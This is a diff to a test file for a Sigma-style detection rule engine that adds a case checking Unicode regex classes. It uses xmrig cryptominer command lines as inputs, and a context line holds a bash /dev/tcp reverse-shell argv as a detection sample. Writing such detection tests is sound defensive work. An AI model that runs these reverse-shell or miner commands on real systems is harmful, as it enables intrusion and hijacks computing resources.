@@ -65,6 +65,13 @@ CASES = [
      [({"argv": ["bash", "-i", ">&/dev/tcp/h/1"]}, True), ({"argv": ["bash", ">&/dev/tcp/h/1"]}, False)]),
     ("re_is_case_sensitive", "sel:\n    CommandLine|re: '\\s-O\\s'\n  condition: sel", PROCESS_CREATION,
      [({"argv": ["wget", "-O", "f", "u"]}, True), ({"argv": ["wget", "-o", "f", "u"]}, False)]),
+    # Python's \w, \s, \d are Unicode; RE2's ASCII ones missed a non-ASCII letter, a vertical
+    # tab or a no-break space, and an Arabic-Indic digit
+    ("re_perl_classes_are_pythons_unicode_ones",
+     "sel: {CommandLine|re: 'xmr\\w+\\s+--url\\s\\d'}\n  condition: sel", PROCESS_CREATION,
+     [({"argv": ["sh", "-c", "xmrÄig --url 1"]}, True), ({"argv": ["sh", "-c", "xmrig\v--url 1"]}, True),
+      ({"argv": ["sh", "-c", "xmrig\xa0--url \u0663"]}, True), ({"argv": ["sh", "-c", "xmr --url 1"]}, False),
+      ({"argv": ["sh", "-c", "xmrig-x --url 1"]}, False)]),
     ("re_unanchored", "sel:\n    CommandLine|re: 'D[0-9]+'\n  condition: sel", PROCESS_CREATION,
      [({"argv": ["auditctl", "-D42"]}, True), ({"argv": ["auditctl", "-d42"]}, False)]),
     ("re_i_flag", "sel:\n    CommandLine|re|i: 'BASE64 -D'\n  condition: sel", PROCESS_CREATION,
